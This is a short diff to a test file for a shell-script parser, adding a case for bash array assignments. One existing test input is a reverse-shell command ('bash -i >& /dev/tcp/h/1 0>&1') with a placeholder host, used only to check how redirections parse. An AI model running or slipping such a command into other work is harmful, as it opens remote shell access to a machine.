@@ -40,6 +40,7 @@ describe("parseScript", () => {
     ["function f {\n  a\n}\nf", ['f() {["a"]}', "f"]],
     ["(a; b) | c", ['{["a","b"]} | c']],
     ["a \\\n  b", ["a b"]],
+    ["a=(b $c)\nd+=(\n  e # f\n  g\n)\nlocal h=(i)", ["a:=b $c", "d:=e g", "local h=i"]],
     ["case x in y) a ;; esac; b", ['{["case x in y","a"]}', "b"]],
     ["bash -i >& /dev/tcp/h/1 0>&1", ["bash -i >& /dev/tcp/h/1 >& 1"]],
   ])("reads %j", (text, expected) => {
